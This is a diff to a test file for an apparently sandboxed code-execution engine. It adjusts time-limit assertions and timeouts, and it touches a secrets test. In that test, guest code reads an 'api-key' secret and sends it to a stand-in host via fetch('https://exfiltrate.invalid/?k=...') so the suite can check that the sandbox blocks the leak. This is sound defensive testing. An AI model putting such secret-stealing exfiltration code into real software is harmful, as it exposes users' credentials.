@@ -18,6 +18,15 @@ after(async () => {
   host.assertUnchanged();
 });
 
+/**
+ * Stopped at a time limit: not before it (timers may round a little), and well before the bound
+ * that would mean the limit failed (a loop that never ends, a guest timer of 60 s). How long after
+ * the limit is no measure of the mechanism: a busy machine stops executions late.
+ */
+function assertStoppedAtLimit(ms: number, limitMs: number): void {
+  assert.ok(ms >= limitMs * 0.9 && ms < limitMs + 15_000, `a ${limitMs} ms limit stopped after ${Math.round(ms)} ms`);
+}
+
 /** Elapsed wall time of an execution, measured by the caller. */
 async function timed<T>(work: () => Promise<T>): Promise<{ value: T; ms: number }> {
   const start = performance.now();
@@ -85,16 +94,17 @@ describe('MEM: memory', () => {
 
 describe('TIME: time', () => {
   test('TIME-01: work within the time limit succeeds', async () => {
+    // About 60 ms of work: a limit that leaves room for a busy machine.
     const result = await run(engine, moduleOf('await new Promise((resolve) => setTimeout(resolve, 50)); let s = 0; for (let i = 0; i < 1e6; i++) s += i; return s;'), {
-      timeoutMs: 1000,
+      timeoutMs: 10_000,
     });
     assert.equal(succeeded(result), 499999500000);
   });
 
-  test('TIME-02: while (true) {} ends with "timeout" between 0.9 s and 2 s for a 1 s limit', async () => {
+  test('TIME-02: while (true) {} ends with "timeout" at a 1 s limit', async () => {
     const { value: result, ms } = await timed(() => run(engine, moduleOf('while (true) {}'), { timeoutMs: 1000 }));
     assert.match(failed(result, 'TIMEOUT').message, /timeout/);
-    assert.ok(ms >= 900 && ms < 2000, `stopped after ${ms} ms`);
+    assertStoppedAtLimit(ms, 1000);
   });
 
   test('TIME-03: a long finite loop is stopped at the limit', async () => {
@@ -102,15 +112,15 @@ describe('TIME: time', () => {
       run(engine, moduleOf('let s = 0; for (let i = 0; i < 1e12; i++) s = (s + i) % 7; return s;'), { timeoutMs: 500 }),
     );
     assert.match(failed(result, 'TIMEOUT').message, /timeout/);
-    assert.ok(ms >= 450 && ms < 1500, `stopped after ${ms} ms`);
+    assertStoppedAtLimit(ms, 500);
   });
 
-  test('TIME-04: a timer that outlasts the limit ends with "timeout" between 0.9 s and 2 s', async () => {
+  test('TIME-04: a timer that outlasts the limit ends with "timeout" at a 1 s limit', async () => {
     const { value: result, ms } = await timed(() =>
-      run(engine, moduleOf('await new Promise((resolve) => setTimeout(resolve, 10_000)); return "too late";'), { timeoutMs: 1000 }),
+      run(engine, moduleOf('await new Promise((resolve) => setTimeout(resolve, 60_000)); return "too late";'), { timeoutMs: 1000 }),
     );
     assert.match(failed(result, 'TIMEOUT').message, /timeout/);
-    assert.ok(ms >= 900 && ms < 2000, `stopped after ${ms} ms`);
+    assertStoppedAtLimit(ms, 1000);
   });
 
   test('TIME-05: CPU-heavy work is stopped at the limit and its CPU time is reported', async () => {
@@ -118,8 +128,9 @@ describe('TIME: time', () => {
       run(engine, moduleOf('const fib = (n) => (n < 2 ? n : fib(n - 1) + fib(n - 2)); return fib(60);'), { timeoutMs: 500 }),
     );
     assert.match(failed(result, 'TIMEOUT').message, /timeout/);
-    assert.ok(ms >= 450 && ms < 1500, `stopped after ${ms} ms`);
-    assert.ok(result.cpuTimeMs > 100, `cpu time ${result.cpuTimeMs} ms`);
+    assertStoppedAtLimit(ms, 500);
+    // Reported, and not more than the cores could have given it (a busy machine gives it less).
+    assert.ok(result.cpuTimeMs > 0 && result.cpuTimeMs <= ms * 2, `cpu time ${result.cpuTimeMs} ms in ${ms} ms`);
   });
 });
 
@@ -372,7 +383,8 @@ describe('SEC: secrets', () => {
         const stolen = secrets.get('api-key');
         globalThis.stolen = stolen;
         globalThis[Symbol.for('stolen')] = stolen;
-        setTimeout(() => console.log('late leak ' + stolen), 100);
+        // Due long after the execution ends (however busy the machine): it must never run.
+        setTimeout(() => console.log('late leak ' + stolen), 30_000);
         let network = 'no fetch';
         try { await fetch('https://exfiltrate.invalid/?k=' + stolen); network = 'sent'; } catch (e) { network = e.name; }
         return { network };
@@ -451,8 +463,9 @@ describe('concurrent executions', () => {
     const runs = Array.from({ length: 16 }, (_, i) => {
       const userId = i % 2 === 0 ? 'user-1' : 'user-2';
       const ending = endings[i % endings.length]!;
-      // Generous limits for the endings that are not about time: sixteen isolates share the cores.
-      const timeoutMs = ending === 'timeout' ? 300 : 10_000;
+      // Generous limits for the endings that are not about time: sixteen isolates share the cores,
+      // and a memory bomb starved of CPU on a busy machine takes many seconds to fill its heap.
+      const timeoutMs = ending === 'timeout' ? 300 : 120_000;
       return run(engine, source, { userId, params: { ending }, timeoutMs, memoryMb: 32 }).then((result) => ({ result, userId, ending }));
     });
     for (const { result, userId, ending } of await Promise.all(runs)) {
